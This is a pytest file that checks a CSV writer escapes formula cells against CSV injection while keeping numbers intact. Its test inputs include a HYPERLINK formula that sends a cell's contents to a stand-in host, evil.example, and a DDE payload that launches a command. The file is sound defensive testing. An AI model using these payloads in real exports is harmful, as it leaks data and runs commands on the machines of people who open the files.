"""The one CSV writer: formula cells neutralised (CSV injection), numbers kept, a byte order mark
for spreadsheets; and no module writing CSV around it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from cdphub.csv_export import BOM, SafeCsvWriter, SafeDictWriter, neutralise

ROOT = Path(__file__).resolve().parents[2]
APPS = ("cdphub", "profiles", "crm", "audiences", "consent")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # numbers stay numbers, also as text: a spreadsheet reads them as numbers, not formulas
        ("-12.5", "-12.5"),
        ("+31612345678", "+31612345678"),
        ("-1e5", "-1e5"),
        (-3, -3),
        (2.5, 2.5),
        (Decimal("-4.20"), Decimal("-4.20")),
        (None, None),
        ("José = Jo", "José = Jo"),
        ("a@example.com", "a@example.com"),
    ],
)
def test_neutralise_formula_cells_keep_numbers_and_plain_text(value, written):
    assert neutralise(value) == written


def test_writer_neutralises_every_cell_and_starts_with_a_bom():
    stream = io.StringIO()
    writer = SafeCsvWriter(stream)
    writer.writerow(["name", "total"])
    writer.writerows([["=1+1", -3], ["José", 2.5]])

    text = stream.getvalue()
    assert text.startswith(BOM) and text.count(BOM) == 1
    assert list(csv.reader(io.StringIO(text.removeprefix(BOM)))) == [
        ["name", "total"],
        ["'=1+1", "-3"],
        ["José", "2.5"],
    ]
    # Excel decodes the file as UTF-8 because of the mark: accents survive
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbfname,total")


def test_dict_writer_neutralises_and_can_leave_out_the_bom():
    stream = io.StringIO()
    writer = SafeDictWriter(stream, ["id", "user_id"], bom=False)
    writer.writeheader()
    writer.writerow({"id": 1, "user_id": HYPERLINK})

    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert not stream.getvalue().startswith(BOM)
    assert rows == [{"id": "1", "user_id": "'" + HYPERLINK}]


def test_an_empty_export_stays_empty_and_a_line_stream_gets_no_blank_line():
    empty = io.StringIO()
    SafeCsvWriter(empty)
    assert empty.getvalue() == ""

    class LineStream:  # like a management command's stdout: a newline after each write
        def __init__(self):
            self.text = ""

        def write(self, msg):
            self.text += msg if msg.endswith("\n") else msg + "\n"

    out = LineStream()
    SafeCsvWriter(out).writerow(["a", "b"])
    assert out.text == BOM + "a,b\r\n"


def direct_csv_writers(path: Path, root: Path = ROOT) -> list[str]:
    """``csv.writer`` / ``csv.DictWriter`` used in a module, however imported."""
    tree = ast.parse(path.read_text(), filename=str(path))
    name = path.relative_to(root)
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"{name}:{node.lineno} csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            for alias in node.names:
                if alias.name in ("writer", "DictWriter"):
                    found.append(f"{name}:{node.lineno} from csv import")
    return found


def test_every_csv_is_written_through_the_safe_writer():
    """A new export writing ``csv.writer`` directly would bring formula injection back."""
    allowed = ROOT / "cdphub" / "csv_export.py"
    offenders = [
        hit
        for app in APPS
        for path in sorted((ROOT / app).rglob("*.py"))
        if path != allowed and "migrations" not in path.parts
        for hit in direct_csv_writers(path)
    ]
    assert offenders == [], "write CSV with cdphub.csv_export, not csv directly"


def test_the_completeness_check_sees_a_direct_writer(tmp_path):
    module = tmp_path / "export.py"
    module.write_text(
        "import csv\nfrom csv import DictWriter\n"
        "w = csv.writer(open('x'))\nr = csv.reader(open('x'))\n"
    )
    assert direct_csv_writers(module, tmp_path) == [
        "export.py:2 from csv import",
        "export.py:3 csv.writer",
    ]
